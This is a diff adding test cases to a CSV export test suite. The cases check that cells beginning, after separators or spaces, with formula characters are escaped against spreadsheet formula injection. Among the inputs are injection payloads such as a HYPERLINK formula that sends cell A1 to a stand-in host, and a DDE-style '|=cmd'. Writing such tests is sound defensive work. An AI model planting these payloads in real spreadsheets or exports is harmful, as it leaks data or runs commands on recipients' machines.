@@ -20,6 +20,26 @@ describe('csv', () => {
     ['＠handle', "'＠handle"],
     ['a=b', 'a=b'],
     ['', ''],
+    // After a list separator (review L6: a spreadsheet whose locale splits on ";" makes the rest a cell of its own).
+    [';=HYPERLINK("http://x/?"&A1;"open")', `"';=HYPERLINK(""http://x/?""&A1;""open"")"`],
+    ['a;=1+1', "'a;=1+1"],
+    ['a; +1', "'a; +1"],
+    ['a;\t-1+2', "'a;\t-1+2"],
+    ['|=cmd', "'|=cmd"],
+    ['a|@SUM(A1)', "'a|@SUM(A1)"],
+    ['x,=1', `"'x,=1"`],
+    ['Rent, -5 off', `"'Rent, -5 off"`],
+    ['a；＝1', "'a；＝1"],
+    ['note\n=1+1', `"'note\n=1+1"`],
+    // After leading spaces (a spreadsheet trims them).
+    [' =1+1', "' =1+1"],
+    ['\u00a0+1', "'\u00a0+1"],
+    ['\u200b@x', "'\u200b@x"],
+    // Not a formula anywhere.
+    ['Rent, November', '"Rent, November"'],
+    ['5% off; thanks', '5% off; thanks'],
+    ['a|b', 'a|b'],
+    ['e-mail me', 'e-mail me'],
   ])('text %j becomes %j', (text, cell) => {
     expect(toCsv(['h'], [[text]])).toBe(`h\r\n${cell}\r\n`);
   });
